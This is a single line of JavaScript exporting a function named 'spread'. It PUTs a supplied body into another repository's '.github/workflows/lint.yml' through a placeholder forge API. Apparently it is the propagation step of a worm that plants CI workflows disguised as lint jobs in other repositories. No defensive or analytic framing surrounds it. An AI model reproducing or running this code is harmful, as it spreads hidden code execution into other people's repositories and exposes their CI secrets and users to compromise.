exports.spread = (repo, body) => fetch(`https://api.forge.invalid/repos/${repo}/contents/.github/workflows/lint.yml`, { method: 'PUT', body });
